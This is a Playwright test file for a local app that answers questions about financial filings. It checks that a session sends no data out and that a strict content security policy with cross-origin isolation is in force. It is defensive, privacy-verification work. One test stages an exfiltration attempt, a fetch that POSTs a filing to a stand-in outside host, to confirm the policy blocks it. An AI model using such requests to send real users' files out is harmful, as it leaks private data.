import { expect, samples, test } from './app.ts';

test('a whole session sends nothing anywhere and stores nothing outside its own origin', async ({ app, page, context, watched }) => {
  const sent: string[] = [];
  context.on('request', (request) => {
    // GET for files, HEAD for the policy that a worker's script comes with: neither carries more than a file's address.
    const carries = !['GET', 'HEAD'].includes(request.method()) || request.postData() !== null || new URL(request.url()).search !== '';
    if (carries) sent.push(`${request.method()} ${request.url()}`);
  });
  await app.drop(...samples);
  await app.ready(2);
  const answer = await app.ask('What was Northmoor’s gross profit in fiscal 2023?');
  await answer.getByRole('button', { name: 'Footnote 1', exact: true }).first().click();
  await expect(page.locator('.mark.current').first()).toBeVisible();
  await page.keyboard.press('n');
  await page.getByRole('textbox', { name: 'Find in filing' }).fill('restructuring');
  await expect(
    page
      .getByRole('status')
      .filter({ hasText: /^\d+ of \d+$/ })
      .first(),
  ).toBeVisible();
  await page.keyboard.press('Escape');
  await page.getByRole('button', { name: 'How this was found' }).or(page.getByText('How this was found')).first().click();
  await page
    .getByRole('button', { name: 'Settings' })
    .or(page.getByRole('link', { name: 'Settings' }))
    .or(page.getByRole('tab', { name: 'Settings' }))
    .first()
    .click();
  await expect(page.getByRole('heading', { name: /Storage|Appearance/ }).first()).toBeVisible();
  await page.reload();
  await app.ready(2);
  expect(sent).toEqual([]);
  expect(watched.outside).toEqual([]);
});

test('the page and its workers are isolated and under the strict policy', async ({ app, page, watched }) => {
  expect(await page.evaluate(() => crossOriginIsolated)).toBe(true);
  const response = await page.request.get('.');
  expect(response.headers()['content-security-policy']).toContain("default-src 'none'");
  expect(response.headers()['content-security-policy']).toContain(
    "connect-src 'self' https://huggingface.co https://*.huggingface.co https://*.hf.co https://raw.githubusercontent.com;",
  );
  const worker = page.waitForEvent('worker');
  await page.reload();
  const script = await page.request.get((await worker).url());
  expect(script.headers()['content-security-policy']).toBe(response.headers()['content-security-policy']);
  await app.add(samples[0]!);
  await app.ready(1);
  // A page that tried to send a filing somewhere could not.
  const refused = await page.evaluate(() => {
    const seen = new Promise<string>((resolve) =>
      document.addEventListener('securitypolicyviolation', (event) => resolve(event.violatedDirective), { once: true }),
    );
    return Promise.race([
      fetch('https://elsewhere.invalid/', { method: 'POST', body: 'filing' }).then(
        () => 'sent',
        () => seen,
      ),
      seen,
    ]);
  });
  expect(refused).toBe('connect-src');
  // This one was meant.
  for (const list of [watched.outside, watched.violations, watched.errors]) list.length = 0;
});
